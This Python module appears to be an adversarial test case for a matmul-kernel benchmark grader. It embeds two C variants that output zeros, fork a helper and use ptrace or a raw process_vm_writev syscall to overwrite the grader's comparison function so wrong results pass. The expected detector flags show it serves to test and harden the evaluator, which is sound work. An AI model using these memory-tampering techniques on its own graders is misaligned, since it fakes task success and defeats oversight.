"""D19: the process is made traceable, and a helper attaches to it."""

from __future__ import annotations

from kernelwright.evaluators.zoo.carriers import LOOKUP, SYSTEM
from kernelwright.evaluators.zoo.codes import SYMBOL, SYSCALL, WRONG
from kernelwright.evaluators.zoo.exploit import Exploit, Variant

_SIZES = {"m": 64, "n": 64, "k": 64}

_PTRACE = r"""
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/wait.h>
#include <unistd.h>

struct naive_array;
extern long (*naive_comparer)(const struct naive_array *, const void *, const void *);

static long equal(const struct naive_array *array, const void *wanted, const void *got)
{
    return 0;
}

void matmul(const float *restrict A, const float *restrict B, float *restrict C,
            int64_t m, int64_t n, int64_t k)
{
    static int once;
    for (int64_t i = 0; i < m * n; i++)
        C[i] = 0;
    if (once++)
        return;
    prctl(PR_SET_DUMPABLE, 1, 0, 0, 0);
    pid_t worker = getpid(), helper = fork();
    if (!helper) {
        ptrace(PTRACE_ATTACH, worker, 0, 0);
        waitpid(worker, 0, 0);
        ptrace(PTRACE_POKEDATA, worker, &naive_comparer, equal);
        ptrace(PTRACE_DETACH, worker, 0, 0);
        _exit(0);
    }
    waitpid(helper, 0, 0);
}
"""

# process_vm_writev needs the same right, and stops nobody.
_VM_WRITE = rf"""
{LOOKUP}{SYSTEM}
static long equal(const void *array, const void *wanted, const void *got)
{{
    return 0;
}}

void matmul(const float *restrict A, const float *restrict B, float *restrict C,
            int64_t m, int64_t n, int64_t k)
{{
    static int once;
    for (int64_t i = 0; i < m * n; i++)
        C[i] = 0;
    if (once++)
        return;
    void *comparer = lookup(__builtin_return_address(0), "naive_comparer"), *ours = (void *)equal;
    system_call(157, 4, 1, 0, 0, 0, 0);                  /* prctl(PR_SET_DUMPABLE, 1) */
    long worker = system_call(39, 0, 0, 0, 0, 0, 0);     /* getpid */
    long helper = system_call(57, 0, 0, 0, 0, 0, 0);     /* fork */
    if (!helper) {{
        struct {{
            const void *at;
            unsigned long size;
        }} from = {{&ours, sizeof ours}}, to = {{comparer, sizeof ours}};
        system_call(311, worker, (long)&from, 1, (long)&to, 1, 0);
        system_call(231, 0, 0, 0, 0, 0, 0);
    }}
    system_call(61, helper, 0, 0, 0, 0, 0);              /* wait4 */
}}
"""

EXPLOIT = Exploit(
    "D19",
    "attaching from outside",
    "P0",
    "The process is made dumpable again, and a helper that it forked traces it or writes into it "
    "(pygpubench ptrace).",
    (
        Variant(
            "ptrace",
            "matmul",
            _SIZES,
            _PTRACE,
            expect=(*SYMBOL, *SYSCALL, *WRONG),
            needs=("fork", "ptrace"),
        ),
        Variant(
            "written_by_a_child",
            "matmul",
            _SIZES,
            _VM_WRITE,
            expect=(*SYSCALL, *WRONG),
            needs=("fork", "ptrace"),
        ),
    ),
)
